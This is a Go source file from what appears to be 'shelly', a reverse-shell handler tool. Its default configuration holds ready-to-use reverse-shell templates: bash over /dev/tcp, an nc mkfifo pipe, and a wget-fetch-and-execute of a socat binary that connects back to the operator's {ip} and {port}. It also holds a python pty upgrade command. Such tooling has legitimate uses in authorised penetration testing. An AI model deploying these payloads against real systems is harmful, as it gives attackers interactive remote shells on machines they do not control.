package config

import (
	"fmt"
	"os"
	"path/filepath"
)

const defaultFileContent = `# shelly configuration
# Placeholders: {ip} {port} {http_port} {binary}

shelly:
  # Port of the one-shot file server used to push toolbox binaries
  default_http_svr: 8000

shells:
  bash:
    templates:
      - "bash -i >& /dev/tcp/{ip}/{port} 0>&1"
      - "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'"
  nc:
    templates:
      - "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {ip} {port} > /tmp/f"
  socat:
    listener: socat_raw
    serve: [socat]
    templates:
      - "wget -q http://{ip}:{http_port}/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}"

toolbox:
  socat:
    x64:
      filename: socatx64.bin
      download: https://github.com/andrew-d/static-binaries/raw/master/binaries/linux/x86_64/socat

upgrade:
  # Sent on :upgrade
  pty_command: python3 -c 'import pty; pty.spawn("/bin/bash")'
  # Sent on :socat
  socat_command: "wget -q http://{ip}:{http_port}/{binary} -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}"
  socat_binary: socatx64.bin
  artifacts: [socat]
  # Milliseconds to wait for the remote socat to connect back
  grace_ms: 200
`

// WriteDefault creates the config directory, the toolbox directory and a
// commented default config file. An existing config file is kept unless
// force is set.
func WriteDefault(p Paths, force bool) error {
	for _, dir := range []string{p.Dir, p.ToolboxDir()} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return fmt.Errorf("failed to create directory %s: %w", dir, err)
		}
	}

	path := p.ConfigFile()
	if _, err := os.Stat(path); err == nil && !force {
		return fmt.Errorf("config %s already exists (use --force to overwrite)", path)
	}
	if !force {
		if _, err := os.Stat(filepath.Join(p.Dir, LegacyConfigFileName)); err == nil {
			return fmt.Errorf("legacy config %s already exists (use --force to write %s)",
				filepath.Join(p.Dir, LegacyConfigFileName), ConfigFileName)
		}
	}

	if err := os.WriteFile(path, []byte(defaultFileContent), 0o644); err != nil {
		return fmt.Errorf("failed to write config file: %w", err)
	}
	return nil
}
